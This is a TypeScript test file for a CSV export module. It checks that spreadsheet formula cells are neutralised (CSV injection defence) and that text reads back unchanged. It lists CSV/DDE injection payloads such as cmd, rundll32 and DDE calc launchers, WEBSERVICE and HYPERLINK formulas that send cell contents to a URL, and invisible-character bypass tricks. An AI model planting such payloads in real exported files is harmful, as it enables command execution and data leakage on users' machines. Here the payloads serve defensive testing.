// Delimited text: in the dialect of spreadsheets nothing runs, in both dialects everything is read back by our own reader.
// No spreadsheet is asked: none is installed where the tests run. What one would run is written out here a second time, after
// OWASP's "CSV Injection" and made wider: whatever is left of a cell once all that cannot be seen is taken off its start.

import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { dialects, exactLine, harmless, startsFormula, textCell, textLine, unled } from '../../data/model/delimited.ts'
import type { CsvDialect } from '../../data/model/words/locale.ts'
import { csv } from '../../server/formats/csv.ts'
import { temporaryFolder } from '../helpers/temporary.ts'

const folder = temporaryFolder()
const bothDialects = Object.keys(dialects) as CsvDialect[]

/** The cells of a file, by the reader of imports. */
const readBack = async (text: string): Promise<readonly (readonly string[])[]> => {
  const path = join(folder, 'read.csv')
  writeFileSync(path, text)
  const table = await csv.open(path, () => {})
  try {
    // A row is only good until the next one.
    return [...table.rows].map((row) => ('cells' in row ? [...row.cells] : [`rejected: ${row.expected}`]))
  } finally {
    table.close()
  }
}

const fileOf = (texts: readonly string[], dialect: CsvDialect): string =>
  `${dialects[dialect].mark}${exactLine(['nom', 'valeur', 'fin'], dialect)}${texts
    .map((text, index) => `${[String(index), textCell(text, dialect), 'x'].join(dialects[dialect].delimiter)}\r\n`)
    .join('')}`

/** What cannot be seen at the start of a cell: code points at most as wide as nothing. */
const isUnseen = (character: string): boolean => {
  const code = character.codePointAt(0) ?? 0
  return (
    character.trim() === '' ||
    code < 0x20 ||
    (code >= 0x7f && code <= 0xa0) ||
    [0xad, 0x61c, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2060, 0x2061, 0x2062, 0x2063, 0xfeff].includes(
      code,
    ) ||
    (code >= 0x202a && code <= 0x202e) ||
    (code >= 0x2066 && code <= 0x2069)
  )
}

/** What a spreadsheet makes of a cell: a formula that it works out, or data. A cell led by an apostrophe is text. */
const runs = (cell: string): boolean => {
  if (['\t', '\r', '\n', '\0'].includes(cell[0] ?? '')) return true
  const characters = [...cell]
  while (characters[0] !== undefined && isUnseen(characters[0])) characters.shift()
  const first = (characters[0] ?? '').normalize('NFKC')
  if (!['=', '+', '-', '@'].includes(first)) return false
  // A sign before digits and separators alone is a number or a telephone number; dashes alone are not known to any spreadsheet.
  return !/^ ?[\d(][\d ().,\u00a0\u202f]*([eE][+-]?\d+)?%?$|^[- ]*$/.test(characters.slice(1).join(''))
}

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-cmd|'/C calc'!A0",
  '=HYPERLINK("https://example.org/?x="&A1,"Voir")',
  '=LIEN_HYPERTEXTE("https://example.org";"Voir")',
  '=WEBSERVICE("https://example.org/"&A1)',
  '=IMPORTXML("https://example.org","//a")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=DDE("cmd";"/C calc";"!A0")',
] as const
const unseen = [
  ['nothing', ''],
  ['a space', ' '],
  ['spaces', '   '],
  ['a tab', '\t'],
  ['CR', '\r'],
  ['LF', '\n'],
  ['CR LF', '\r\n'],
  ['a no-break space', '\u00a0'],
  ['a narrow no-break space', '\u202f'],
  ['an ideographic space', '\u3000'],
  ['a zero-width space', '\u200b'],
  ['a zero-width joiner', '\u200d'],
  ['a word joiner', '\u2060'],
  ['a byte order mark', '\ufeff'],
  ['a mark of direction', '\u200e'],
  ['an override of direction', '\u202e'],
  ['an isolate', '\u2066'],
  ['a soft hyphen', '\u00ad'],
  ['a vertical tab', '\v'],
  ['a form feed', '\f'],
  ['an escape', '\u001b'],
  ['a line separator', '\u2028'],
] as const
/** Signs that are folded to those of formulas, and tricks with quotes and separators. */
const tricks = [
  ...['＝1+1', '＋1+1', '－1+1', '＠SUM(A1)', '﹦1+1', '﹢1+1', '﹣A1', '﹫SUM(A1)', ' ＝1+1', '\u200b＝cmd|x!A1'],
  ...['"=1+1', '"=1+1"', '""=1+1', "'=1+1", "''=1+1", "' =1+1", '";=1+1', '",=1+1', ';=1+1', ',=1+1', '\t;=1+1'],
  ...['=', '==1', '=+1', '=-1', '=@A1', '=\t1', '+=1', '-=1', '@=1', '+A1', '-A1', '- A1', '+ A1', '--A1', '-+A1'],
  ...[
    '%0A=1+1',
    '%0D=1+1',
    '%09=1+1',
    '&#61;1+1',
    '\\=1+1',
    '\\t=1+1',
    '{=1+1}',
    '|=1+1',
    '(=1+1)',
    '`=1+1',
    '\n\n=1',
    '\r=1',
  ],
  ...[
    '+33-1-23',
    '-1-2',
    '-1/2',
    '+1*2',
    '-1^2',
    '-5 % de A1',
    '+33 1 A1',
    '-(1+1)',
    '-1:2',
    '+1&2',
    "-1'!A1",
    '-1!A1',
    '-5e',
  ],
  ...['x\r\n=1+1', 'x";=1+1', 'x\n"=1+1', 'sep=;', '=\u0000', '@', '@aidants', '+aidants', '- Bonjour à tous', '=-'],
] as const

const dangerous: readonly (readonly [string, string])[] = [
  ...unseen.flatMap(([name, before]) =>
    ['=1+1', "+cmd|'/C calc'!A0", '-A1', '@SUM(A1)', '＝1+1', '=HYPERLINK("x")'].map(
      (formula) => [`${name} before ${formula}`, `${before}${formula}`] as const,
    ),
  ),
  ...formulas.map((formula) => [formula, formula] as const),
  ...tricks.map((trick) => [JSON.stringify(trick), trick] as const),
]

test('there are enough of them', () => {
  expect(new Set(dangerous.map(([, text]) => text)).size).toBeGreaterThanOrEqual(200)
  expect(dangerous.filter(([, text]) => runs(text)).length).toBeGreaterThanOrEqual(160)
})

test.each(dangerous)('does not run in a spreadsheet: %s', (_, text) => {
  expect(runs(harmless(text))).toBe(false)
  expect(unled(harmless(text))).toBe(text)
})

test('all of them are inert once read out of the file of spreadsheets, and as they were in that of research', async () => {
  // A null character is no text to the reader of imports.
  const texts = dangerous.map(([, text]) => text).filter((text) => !text.includes('\0'))
  const spreadsheet = await readBack(fileOf(texts, 'excel-fr'))
  expect(spreadsheet.map((cells) => cells.length)).toEqual(texts.map(() => 3))
  expect(spreadsheet.filter((cells) => cells.some(runs))).toEqual([])
  expect(spreadsheet.map((cells) => unled(cells[1] ?? ''))).toEqual(texts)
  const research = await readBack(fileOf(texts, 'rfc4180'))
  expect(research.map((cells) => cells[1])).toEqual(texts)
})

const data = [
  ...['-5', '-1,5', '-1.5', '-5 %', '-5\u202f%', '- 5', '-1 234,5', '-1e-7', '+1', '+1,2', '-0'],
  ...[
    '+33 1 23 45 67 89',
    '+33 (0)1 23 45 67 89',
    '+33123456789',
    '+33.1.23.45.67.89',
    '+1 (800) 555 0100',
    '01 23 45 67 89',
  ],
  ...['-', '- ', '--', '---', '- - -', '–', '—', '— ', '…', ''],
  ...['2025-03-31', '2025-03', '31/03/2025', '2025-03-31T23:59:59Z', '2025-W07', '2025-01/2025-12', '12:30'],
  ...['A=B', 'un+un', 'a@b.fr', '1=1', 'Aidants : 50 %', '« =1 »', "l'aide", '’', "'", '%', '#', '$5', '€ 5'],
] as const

test.each(data)('stays data, without an apostrophe: %j', (text) => {
  expect(harmless(text)).toBe(text)
  expect(runs(text)).toBe(false)
})

describe.each(bothDialects)('%s', (dialect) => {
  test('data are read back to the same value', async () => {
    expect((await readBack(fileOf(data, dialect))).map((cells) => cells[1])).toEqual(data)
  })
  test('any text is read back to the same', async () => {
    const text = fc.oneof(
      fc.string({ unit: fc.constantFrom(...'aé";,=+-@\'＝\r\n\t 0%|\u00a0\u200b\ufeff') }),
      fc.string({ unit: 'grapheme', maxLength: 30 }),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 20 }), async (texts) => {
        const whole = texts.map((one) => one.replaceAll('\0', ''))
        const cells = (await readBack(fileOf(whole, dialect))).map((row) => row[1] ?? '')
        if (dialect === 'excel-fr') expect(cells.filter(runs)).toEqual([])
        expect(dialect === 'excel-fr' ? cells.map(unled) : cells).toEqual(whole)
      }),
      { numRuns: 300 },
    )
  })
})

test('what is led and what is not comes back, whatever stands there', () => {
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom(...'\'="+-@ \t5%A＝\u200b') }), (text) => {
      expect(unled(harmless(text))).toBe(text)
      expect(runs(harmless(text))).toBe(false)
      // The look at the first character alone is a short cut, not another rule.
      if (startsFormula(text)) expect(/^[a-z\d]/i.test(text)).toBe(false)
    }),
    { numRuns: 5000 },
  )
})

test('a file to fill in is safe in either dialect, an exact one is exact in either', () => {
  expect(textLine(['=1+1', '-5', 'a'], 'rfc4180')).toBe("'=1+1,-5,a\r\n")
  expect(textLine(['=1+1', '-5', 'a'], 'excel-fr')).toBe("'=1+1;-5;a\r\n")
  expect(exactLine(['=1+1', 'a,b', 'c;d'], 'rfc4180')).toBe('=1+1,"a,b",c;d\r\n')
  expect(exactLine(['=1+1', 'a,b', 'c;d'], 'excel-fr')).toBe('=1+1;a,b;"c;d"\r\n')
})
